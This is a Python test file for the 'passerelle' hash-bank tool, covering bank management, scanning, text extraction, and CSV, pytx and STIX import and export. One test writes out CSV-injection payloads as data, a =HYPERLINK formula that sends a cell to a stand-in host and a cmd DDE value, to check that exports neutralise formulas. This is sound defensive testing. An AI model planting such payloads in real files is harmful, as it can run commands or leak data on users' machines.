"""`passerelle bank …`, `scan` and `extract`: exact output, exit codes, audit, idempotence."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import shutil
from pathlib import Path

import pytest

from passerelle.core.signals.pdq import PDQ
from tests.cli_runner import Cli
from tests.shared import PDQ_IMAGES, shared


@pytest.fixture
def run(tmp_path: Path, database_url: str) -> Cli:
    runner = Cli(
        {
            "PASSERELLE_ENV": "dev",
            "PASSERELLE_DATABASE_URL": database_url,
            "PASSERELLE_DATA_DIR": str(tmp_path / "var"),
        }
    )
    assert runner("db", "upgrade").exit_code == 0
    assert (
        runner("agency", "add", "unite-fr", "--name", "Unité", "--jurisdiction", "FR").exit_code
        == 0
    )
    return runner


@pytest.fixture
def demo_bank(run: Cli) -> Cli:
    assert run("bank", "create", "demo", "--description", "stand-in known content").exit_code == 0
    added = run(
        "bank",
        "add",
        "demo",
        "--file",
        str(shared("pdq", "images", "aaa-orig.jpg")),
        "--category",
        "a",
        "--tier",
        "promotional",
        "--tag",
        "stand-in",
    )
    assert added.output == "3 added, 0 already in bank demo\n"
    return run


def json_lines(output: str) -> list[dict[str, object]]:
    return [json.loads(line) for line in output.splitlines() if line.startswith("{")]


def test_bank_lifecycle_and_audit(demo_bank: Cli) -> None:
    run = demo_bank
    assert run("bank", "list").output == "demo\tpositive\t3 entries\tstand-in known content\n"
    again = run("bank", "add", "demo", "--file", str(shared("pdq", "images", "aaa-orig.jpg")))
    assert again.output == "0 added, 3 already in bank demo\n"
    url = run(
        "bank", "add", "demo", "--type", "url", "--value", "https://Example.org/x?utm_source=a"
    )
    assert url.output == "1 added, 0 already in bank demo\n"
    removed = run("bank", "remove", "demo", "--type", "url", "--value", "https://example.org/x")
    assert removed.output == "removed from bank demo\n"
    missing = run("bank", "remove", "demo", "--type", "url", "--value", "https://example.org/x")
    assert missing.exit_code == 2 and "no url entry" in missing.output
    assert run("bank", "create", "benin", "--negative", "--threshold", "pdq=20").exit_code == 0
    listed = [json.loads(line) for line in run("bank", "list", "--json").output.splitlines()]
    assert listed[0]["name"] == "benin" and listed[0]["thresholds"] == {"pdq": 20.0}
    verify = run("audit", "verify")
    # agency.created, bank.created, entries_added x2, entry_removed, bank.created
    assert verify.output.startswith("audit log intact: 6 events")


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (("bank", "create", "Mauvais Nom"), "bank name 'Mauvais Nom' must be"),
        (
            ("bank", "create", "x", "--threshold", "pdq=99"),
            "threshold for pdq must be between 0 and 64",
        ),
        (("bank", "create", "x", "--threshold", "pdq"), "--threshold must look like TYPE=VALUE"),
        (
            ("bank", "add", "absente", "--type", "md5", "--value", "0" * 32),
            "no bank named 'absente'",
        ),
        (
            ("bank", "add", "demo", "--type", "pdq", "--value", "xyz"),
            "pdq must be 64 hexadecimal digits",
        ),
        (("bank", "add", "demo", "--type", "url", "--value", "ftp://x"), "only http and https"),
        (
            ("bank", "add", "demo", "--type", "md5", "--value", "0" * 32, "--tier", "urgent"),
            "unknown tier 'urgent'",
        ),
        (
            ("bank", "add", "demo", "--type", "md5", "--value", "0" * 32, "--category", "f"),
            "unknown category 'f'",
        ),
        (("bank", "add", "demo", "--type", "text", "--value", "trop court"), "text too short"),
        (("bank", "add", "demo"), "give --type and --value, or --file"),
    ],
)
def test_bank_bad_input_exits_2(demo_bank: Cli, args: tuple[str, ...], message: str) -> None:
    result = demo_bank(*args)
    assert result.exit_code == 2
    assert result.output.startswith("passerelle: error: ")
    assert message in result.output


def test_csv_import_keeps_good_lines_and_names_bad_ones(demo_bank: Cli, tmp_path: Path) -> None:
    csv_file = tmp_path / "entries.csv"
    csv_file.write_text(
        "signal_type,value,category,tier,tags,note\n"
        f"md5,{'a' * 32},b,crisis,x;y,premier\n"
        "pdq,pas-un-hash,,,,\n"
        f"sha256,{'b' * 64},z,,,\n"
        f"url,https://exemple.fr/page,,,,\n",
        encoding="utf-8",
    )
    result = demo_bank("bank", "import", "demo", str(csv_file))
    assert result.exit_code == 0
    assert "2 added, 0 already there, 2 refused" in result.output
    assert f"{csv_file}: line 3: pdq must be 64 hexadecimal digits" in result.output
    assert f"{csv_file}: line 4: unknown category 'z'" in result.output
    exported = demo_bank("bank", "export", "demo").output.splitlines()
    assert exported[0] == "signal_type,value,category,tier,tags,note,quality,tlp,distribution"
    assert f"md5,{'a' * 32},b,crisis,x;y,premier,,amber," in exported
    assert len(exported) == 1 + 5


def test_a_file_with_a_bad_header_is_refused_whole(demo_bank: Cli, tmp_path: Path) -> None:
    bad = tmp_path / "bad.csv"
    bad.write_text("type,hash\nmd5,abc\n")
    result = demo_bank("bank", "import", "demo", str(bad))
    assert result.exit_code == 2
    assert "line 1: header must name signal_type and value" in result.output
    assert "unknown: type, hash" in result.output


def test_pytx_files_round_trip_and_pytx_reads_our_export(demo_bank: Cli, tmp_path: Path) -> None:
    from threatexchange.exchanges.impl.file_api import (
        FileCollaborationConfig,
        LocalFileSignalExchangeAPI,
    )

    source = tmp_path / "pytx.txt"
    source.write_text(
        "pdq f8f8f0cee0f4a84f0637022a078f67f0b36e2ed596621e1d33e6339c4e9c9b22\n"
        "url https://exemple.fr/video?utm_source=x\n"
        "photodna abc\n"
        "video_md5 " + "c" * 32 + "\n",
        encoding="utf-8",
    )
    result = demo_bank("bank", "import", "demo", str(source), "--tier", "crisis")
    assert "3 added, 0 already there, 1 refused" in result.output
    assert "line 3: unknown signal type 'photodna'" in result.output
    out = tmp_path / "export.txt"
    exported = demo_bank("bank", "export", "demo", "--format", "pytx", "-o", str(out))
    assert exported.exit_code == 0
    assert out.read_text(encoding="utf-8").endswith("\n")
    api = LocalFileSignalExchangeAPI(
        FileCollaborationConfig(name="x", api="x", enabled=True, filename=str(out))
    )
    (delta,) = list(api.fetch_iter([], None))
    image = shared("pdq", "images", "aaa-orig.jpg").read_bytes()
    banked = PDQ.compute(image).value
    assert set(delta.updates) == {
        ("pdq", banked),
        # the demo bank's digests of the stand-in image, under pytx's names
        ("video_sha256", hashlib.sha256(image).hexdigest()),
        ("video_md5", hashlib.md5(image, usedforsecurity=False).hexdigest()),
        ("pdq", "f8f8f0cee0f4a84f0637022a078f67f0b36e2ed596621e1d33e6339c4e9c9b22"),
        # pytx compares raw strings: the address as given and its canonical form
        ("url", "https://exemple.fr/video?utm_source=x"),
        ("url", "https://exemple.fr/video"),
        ("video_md5", "c" * 32),
    }


def test_scan_finds_every_edit_of_the_banked_image(demo_bank: Cli) -> None:
    result = demo_bank("scan", "--json", str(shared("pdq", "images")))
    assert result.exit_code == 0
    items = json_lines(result.output)
    assert [Path(str(i["source"])).stem for i in items] == list(PDQ_IMAGES)
    for item in items:
        assert item["media_type"] == "image/jpeg"
        assert set(item["signals"]) == {"sha256", "md5", "pdq"}  # type: ignore[arg-type]
        (match,) = [m for m in item["matches"] if m["signal_type"] == "pdq"]  # type: ignore[union-attr]
        assert match["bank"] == "demo" and match["distance"] <= 31
        assert match["labels"] == {"category": "a", "tier": "promotional", "tags": ["stand-in"]}
        assert item["score"] > 0 and item["reasons"][0] == "tier: promotional"  # type: ignore[index]
    assert (
        "scanned 12 items (0 archive records read), 0 failed, 0 warnings, 12 matched"
        in result.output
    )


def test_parallel_workers_give_the_same_results_in_the_same_order(demo_bank: Cli) -> None:
    folders = [str(shared("pdq", "images")), str(shared("warc")), str(shared("seed"))]
    one = demo_bank("scan", "--json", *folders)
    two = demo_bank("scan", "--json", "--workers", "2", *folders)
    assert one.exit_code == two.exit_code == 1  # the broken archives of the warcio set
    assert json_lines(one.output) == json_lines(two.output)
    assert len(json_lines(one.output)) > 40


def test_the_seed_article_gets_no_match_and_no_tier(demo_bank: Cli, tmp_path: Path) -> None:
    pages = tmp_path / "pages.csv"
    rows = ["signal_type,value,tier"]
    for html in sorted(shared("extraction-fr", "html").iterdir()):
        from passerelle.core.content import decode_text
        from passerelle.core.extract.html import fingerprint_text

        rows.append(
            f'text,"{fingerprint_text(decode_text(html.read_bytes())).replace(chr(34), "")}",crisis'
        )
    pages.write_text("\n".join(rows) + "\n", encoding="utf-8")
    assert demo_bank("bank", "import", "demo", str(pages)).exit_code == 0
    result = demo_bank(
        "scan", "--json", "--language", "always", str(shared("seed", "000_5bf63a78f05527b0.txt"))
    )
    (item,) = json_lines(result.output)
    assert item["matches"] == [] and item["score"] == 0
    assert item["reasons"] == ["no match in any bank"]
    assert item["language"] == "fr"
    assert "text" in item["signals"]  # type: ignore[operator]


def test_into_queue_is_idempotent(demo_bank: Cli, tmp_path: Path) -> None:
    folder = tmp_path / "images"
    shutil.copytree(shared("pdq", "images"), folder)
    shutil.copy(folder / "aaa-orig.jpg", folder / "copie.jpg")
    first = demo_bank("scan", "--into-queue", str(folder))
    assert "queue: 12 cases opened, 1 seen again" in first.output
    second = demo_bank("scan", "--into-queue", str(folder))
    assert "queue: 0 cases opened, 0 seen again, 13 already recorded" in second.output
    assert demo_bank("audit", "verify").exit_code == 0
    # the matched bytes are preserved, encrypted, for the analyst who will decide
    content = tmp_path / "var" / "content"
    assert len([f for f in content.rglob("*") if f.is_file()]) == 12
    assert not any(b"JFIF" in f.read_bytes()[:64] for f in content.rglob("*") if f.is_file())


def test_scanning_the_warcio_files_reports_each_broken_file_and_goes_on(demo_bank: Cli) -> None:
    result = demo_bank("scan", "--json", str(shared("warc")))
    assert result.exit_code == 1  # some inputs could not be read
    lines = json_lines(result.output)
    errors = {Path(str(line["source"])).name: line["error"] for line in lines if line.get("error")}
    assert set(errors) == {"bad.arc", "example-trunc.warc"}
    records = [line for line in lines if "sha256" in line and "#" in str(line["source"])]
    assert len(records) == 19  # every payload record of the good and the damaged files
    assert "scanned" in result.output and "2 failed" in result.output


def test_table_output_and_bad_arguments(demo_bank: Cli, tmp_path: Path) -> None:
    table = demo_bank("scan", str(shared("pdq", "images", "aaa-orig.jpg")))
    lines = table.output.splitlines()
    assert lines[0] == "SCORE  MEDIA TYPE                BANKS                 SOURCE"
    assert lines[1].split()[1:3] == ["image/jpeg", "demo"]
    missing = demo_bank("scan", str(tmp_path / "absent.jpg"))
    assert (missing.exit_code, missing.output) == (
        2,
        f"passerelle: error: no such file, folder or URL: {tmp_path / 'absent.jpg'}\n",
    )
    bad_url = demo_bank("scan", "https://exa mple.org/")
    assert bad_url.exit_code == 2 and "not a URL" in bad_url.output
    no_bank = demo_bank("scan", "--bank", "absente", str(shared("pdq", "images", "aaa-orig.jpg")))
    assert no_bank.exit_code == 2 and "no bank named 'absente'" in no_bank.output


def test_a_damaged_image_is_scanned_by_its_bytes_with_a_warning(
    demo_bank: Cli, tmp_path: Path
) -> None:
    broken = tmp_path / "broken.jpg"
    broken.write_bytes(shared("pdq", "images", "aaa-orig.jpg").read_bytes()[:5000])
    (item,) = json_lines(demo_bank("scan", "--json", str(broken)).output)
    assert set(item["signals"]) == {"sha256", "md5"}  # type: ignore[arg-type]
    assert item["warnings"][0].startswith("no pdq signal: damaged image")  # type: ignore[index]


def test_extract_prints_the_main_text(run: Cli) -> None:
    page = shared("extraction-fr", "html", "ledevoir.com.trottinettes.html")
    text = run("extract", str(page))
    assert text.exit_code == 0
    assert "trottinettes" in text.output
    data = json.loads(run("extract", "--json", str(page)).output)
    assert set(data) == {"text", "title", "date", "language", "image_urls"}
    assert data["language"] == "fr"
    image = run("extract", str(shared("pdq", "images", "aaa-orig.jpg")))
    assert image.exit_code == 2 and "no text to extract from image/jpeg" in image.output


def test_a_page_added_to_a_bank_matches_its_edited_copy_by_its_text(
    run: Cli, tmp_path: Path
) -> None:
    page = shared("extraction-fr", "html", "aoc.media.archaisme.html")
    assert run("bank", "create", "pages").exit_code == 0
    added = run("bank", "add", "pages", "--file", str(page))
    assert added.output == "3 added, 0 already in bank pages\n"  # sha256, md5 and text
    copy = tmp_path / "copie.html"
    copy.write_bytes(page.read_bytes() + b"<!-- republished elsewhere -->")
    (item,) = json_lines(run("scan", "--json", str(copy)).output)
    assert [m["signal_type"] for m in item["matches"]] == ["text"]  # type: ignore[union-attr]


def test_exports_never_carry_a_formula(demo_bank: Cli, tmp_path: Path) -> None:
    """CSV injection (OWASP): a note or a tag starting with = + - @ (typed, imported from a
    CSV, or an id imported from a STIX bundle) is exported as text, and reads back the same."""
    csv_file = tmp_path / "entries.csv"
    csv_file.write_text(
        "signal_type,value,tags,note\n"
        f'md5,{"c" * 32},,"=HYPERLINK(""https://exemple.test/?""&A1,""clic"")"\n'
        f"md5,{'d' * 32},,+1\n"
        f"md5,{'f' * 32},,@SUM(1+1)\n",
        encoding="utf-8",
    )
    assert demo_bank("bank", "import", "demo", str(csv_file)).exit_code == 0
    bundle = tmp_path / "bundle.json"
    bundle.write_text(
        json.dumps(
            {
                "type": "bundle",
                "id": "bundle--1",
                "objects": [
                    {
                        "type": "indicator",
                        "id": "=cmd|' /C calc'!A0",
                        "pattern": f"[file:hashes.MD5 = '{'e' * 32}']",
                        "labels": ["-2+3"],
                    }
                ],
            }
        ),
        encoding="utf-8",
    )
    imported = demo_bank("bank", "import", "demo", str(bundle), "--format", "stix")
    assert imported.exit_code == 0, imported.output
    exported = demo_bank("bank", "export", "demo").output
    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    assert "'=cmd|' /C calc'!A0" in cells and "'@SUM(1+1)" in cells and "'+1" in cells
    # a tag can never start like a formula: such a label is left out, and said
    assert "tag left out: invalid tag '-2+3'" in imported.output
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # Our own export reads back with the notes as they were.
    again = tmp_path / "again.csv"
    again.write_text(exported, encoding="utf-8")
    assert demo_bank("bank", "create", "copie").exit_code == 0
    assert demo_bank("bank", "import", "copie", str(again)).exit_code == 0
    copied = demo_bank("bank", "export", "copie").output.splitlines()
    assert sorted(copied) == sorted(exported.splitlines())
